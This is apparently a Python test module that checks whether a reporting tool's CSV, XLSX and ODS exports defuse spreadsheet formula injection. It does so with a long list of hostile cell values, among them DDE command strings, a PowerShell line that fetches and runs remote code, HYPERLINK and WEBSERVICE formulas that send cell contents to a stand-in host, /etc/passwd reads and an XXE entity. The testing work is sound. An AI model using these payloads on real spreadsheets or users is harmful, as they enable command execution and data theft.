"""What a person typed may be shown, never run."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from program.reports.exports import WRITERS, Column, Table, whole
from program.reports.exports.tables import clean
from tests.reports.files import read_back, written

FIELDS = ["number", "e-mail", "surname", "infix", "given name", "department", "title", "domain"]
COLUMNS = [Column(name) for name in FIELDS]
FULL_WIDTH = "\uff1d\uff0b\uff0d\uff20"
SIGNS = f"=+-@{FULL_WIDTH}"
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget http://x.example/a)'!A0",
    '=HYPERLINK("http://x.example?leak="&A1&A2,"Klik hier")',
    '=WEBSERVICE("http://x.example/"&A1)',
    '=IMPORTXML(CONCAT("http://x.example/?v=",CONCATENATE(A2:E2)),"//a/a10")',
    '=IMPORTFEED("http://x.example")',
    '=IMPORTHTML("http://x.example","table",1)',
    '=IMPORTRANGE("http://x.example","A1:B2")',
    '=IMAGE("http://x.example/leak.png")',
    "='file:///etc/passwd'#$passwd.A1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=msexcel|"\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe"!""',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=2+5+cmd|" /C calc"!A0',
    "=1+1;=2+2",
    "=1+1,=2+2",
    '";=1+1;"',
    '",=1+1,"',
    "Jansen,=1+1",
    "Jansen,  @SUM(A1)",
    "Jansen;=1+1",
    "Jansen\n=1+1",
    "Jansen\r\n=1+1",
    "Jansen\t=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tJansen",
    "\rJansen",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\x1b[31m=1+1",
    "\u202e=1+1",
    f"{FULL_WIDTH[0]}1+1",
    f"{FULL_WIDTH[1]}1+1",
    f"{FULL_WIDTH[2]}1+1",
    f"{FULL_WIDTH[3]}SUM(1+1)",
    "\ufe661+1",
    "\ufe621+1",
    "\u22121+1",
    "'=1+1",
    "''",
    "'",
    "%0A=1+1",
    "|calc",
    "<b>vet</b>",
    "<script>alert(1)</script>",
    "&lt;&amp;&#61;1+1",
    "]]><f>1+1</f>",
    "</t></is></c><c><f>1+1</f></c>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "_x003D_1+1",
    "_x0041__x005F_x0042_",
    "http://x.example/",
    "file://x.example/share",
    "mailto:x@example.nl?subject=hoi",
    "internal:'Sheet1'!A1",
    "-",
    "=",
    "--",
    "+31 6 12345678",
    "00012345",
    "1E5",
    "\ud800=1+1",
    "\ufffe\uffff",
    "e\u0301\u0327 \u202etfel",
    "  twee  spaties  ",
    "x" * 40_000,
    "=" * 40_000,
]


def test_there_are_at_least_fifty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 50


@pytest.mark.parametrize("kind", WRITERS)
@pytest.mark.parametrize("field", range(len(FIELDS)), ids=FIELDS)
def test_no_payload_leaves_its_cell_or_becomes_more_than_text(kind: str, field: int) -> None:
    rows = [tuple(p if n == field else "Berg" for n in range(len(FIELDS))) for p in PAYLOADS]
    cells = read_back(kind, written(kind, Table("x", COLUMNS, whole(rows))))

    assert [len(row) for row in cells] == [len(FIELDS)] * (len(PAYLOADS) + 1)
    for row, payload in zip(cells[1:], PAYLOADS, strict=True):
        shown = row.pop(field)
        assert row == ["Berg"] * (len(FIELDS) - 1)
        assert isinstance(shown, str)
        assert plain(kind, shown) == plain(kind, clean(payload))


def plain(kind: str, text: str) -> str:
    """But for the apostrophes that a CSV file may have more."""
    return text.replace("'", "") if kind == "csv" else text


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p.strip("\t\r\n \u00a0")[:1] in SIGNS])
def test_in_csv_no_cell_begins_as_a_formula(payload: str) -> None:
    cells = read_back("csv", written("csv", Table("x", [Column("Naam")], [((payload,),)])))
    assert cells[1][0][0] == "'"


@given(st.text())
def test_in_csv_no_cell_begins_as_a_formula_whatever_was_typed(typed: str) -> None:
    two = [Column("Naam"), Column("z")]
    cell = read_back("csv", written("csv", Table("x", two, [((typed, "z"),)])))[1][0]
    assert cell.lstrip()[:1] not in set(SIGNS) or cell == ""
    assert cell in {clean(typed), "'" + clean(typed)} or "," in typed


@given(st.lists(st.sampled_from([*"=+-@,\t ;\"'a1", *FULL_WIDTH]), max_size=12).map("".join))
def test_an_excel_that_splits_on_commas_finds_no_formula_behind_one(typed: str) -> None:
    data = written("csv", Table("x", [Column("Naam")], [((typed,),)])).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(data, newline="")):
        for cell in row:
            assert cell.strip()[:1] not in set(SIGNS) or cell == ""


@given(st.text())
def test_a_workbook_gives_back_what_was_typed(typed: str) -> None:
    for kind in ("xlsx", "ods"):
        cells = read_back(
            kind, written(kind, Table("x", [Column("a"), Column("b")], [((typed, "z"),)]))
        )
        assert cells[1] == [clean(typed), "z"]
